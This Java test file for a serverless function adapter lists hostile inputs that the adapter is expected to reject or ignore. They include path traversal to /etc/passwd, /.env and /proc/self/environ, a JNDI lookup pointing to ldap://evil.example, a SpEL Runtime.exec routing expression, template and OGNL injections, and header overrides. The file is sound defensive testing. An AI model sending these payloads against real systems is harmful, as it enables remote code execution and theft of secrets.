package dev.portolan.testkit.adapter;

import dev.portolan.Fields;
import java.util.ArrayList;
import java.util.List;

/** Requests that want to be at a function, a file or a line of code where they may not. */
final class BadTargets {
  private BadTargets() {}

  /** Ways to {@code /echo}, or past it, that are other paths. */
  static List<BadInput> elsewhere() {
    List<BadInput> all = new ArrayList<>();
    for (String path :
        List.of(
            "/",
            "/other",
            "/static/../../etc/passwd",
            "/echo/../etc/passwd",
            "/echo/..",
            "/../echo",
            "/./echo",
            "/%2e/echo",
            "/%2e%2e/echo",
            "/..%2fecho",
            "/%2fecho",
            "/x/%2e%2e%2fecho",
            "/..%5cecho",
            "/%5c..%5cecho",
            "/%252e%252e/echo",
            "/%2565cho",
            "//echo",
            "//evil.example/echo",
            "/echo/",
            "/echo//",
            "/echo%2f",
            "/echo;a=b",
            "/echo%3f",
            "/echo%23",
            "/echo%20",
            "/echo+",
            "/echo.",
            "/echo.json",
            "/echo/x",
            "/ECHO",
            "/ech%C3%B6",
            "/WEB-INF/web.xml",
            "/META-INF/portolan/functions.json",
            "/dev/portolan/testkit/adapter/Bystanders.class",
            "/CON",
            "/aux.txt",
            "/.git/config",
            "/.env",
            "/proc/self/environ",
            "/C:/Windows/win.ini",
            "/$%7bjndi:ldap://evil.example/a%7d",
            "/.well-known/portolan/../../echo",
            "/.well-known/portolan/ready/",
            "/.well-known/portolan/READY",
            "/.well-known/portolan/ready%20",
            "/.well-known/portolan/INVOKE")) {
      all.add(BadInput.get("path " + path, path, 404));
    }
    return all;
  }

  /** Methods that the function did not declare. */
  static List<BadInput> otherMethods() {
    List<BadInput> all = new ArrayList<>();
    for (String method : List.of("PUT", "DELETE", "PATCH", "TRACE")) {
      all.add(BadInput.get("method " + method, "/echo", 405).withMethod(method));
    }
    return all;
  }

  /** Targets that no request may have. */
  static List<BadInput> broken() {
    List<BadInput> all = new ArrayList<>();
    for (String target :
        List.of(
            "/%",
            "/%4",
            "/%zz",
            "/echo%",
            "/%c0%af",
            "/%c0%80",
            "/%ff",
            "/%ed%a0%80",
            "/%e2%82",
            "/%f5%80%80%80",
            "/%00",
            "/echo%00",
            "/echo?a=%",
            "/echo?a=%4",
            "/echo?a=%gg",
            "/echo?a=%ff",
            "/echo?a=%c0%af",
            "/echo?%c0%80=b",
            "/echo?a=%ed%bf%bf",
            "/echo?a=1&b=%e2%82")) {
      all.add(BadInput.get("target " + target, target, 400));
    }
    return all;
  }

  /** Headers that other servers let say what is called, and how: the function is, and as it was. */
  static List<BadInput> harmless() {
    List<BadInput> all = new ArrayList<>();
    for (List<String> header :
        List.of(
            List.of("X-Portolan-Function", "other"),
            List.of("function.name", "other"),
            List.of("spring.cloud.function.definition", "a|b|c"),
            List.of(
                "spring.cloud.function.routing-expression",
                "T(java.lang.Runtime).getRuntime().exec(\"x\")"),
            List.of("X-HTTP-Method-Override", "DELETE"),
            List.of("X-Original-URL", "/admin"),
            List.of("X-Rewrite-URL", "/admin"),
            List.of("X-Forwarded-Host", "evil.example"),
            List.of("X-Forwarded-Prefix", "/../.."),
            List.of("X-Sent", "${jndi:ldap://evil.example/a}"),
            List.of("X-Sent", "#{7*7} %{7*7} {{7*7}}"),
            List.of("Content-Type", "application/x-java-serialized-object"),
            List.of("Content-Type", "%{(#a='multipart/form-data')}"),
            List.of("Content-Encoding", "gzip"),
            List.of("Range", "bytes=0-0,0-0,0-0,0-0"),
            List.of("Cookie", "$Version=1; a=\"b; c=d"),
            List.of("X-Request-Id", "../../etc/passwd"),
            List.of("X-Request-Id", "a".repeat(1000)),
            List.of("traceparent", "00-zz-zz-zz"),
            List.of("traceparent", "0".repeat(1000)),
            List.of("tracestate", "=,=,=,"),
            List.of("Accept", "*/*;q=9,,,;"),
            List.of("X-Amzn-Trace-Id", "Root=\"1"),
            List.of("X-Cloud-Trace-Context", "z/9;o=x"))) {
      Fields headers = Fields.headers(header.get(0), header.get(1));
      all.add(new BadInput("harmless: " + header, "GET", "/echo", headers, new byte[0], 200, ""));
    }
    return all;
  }
}
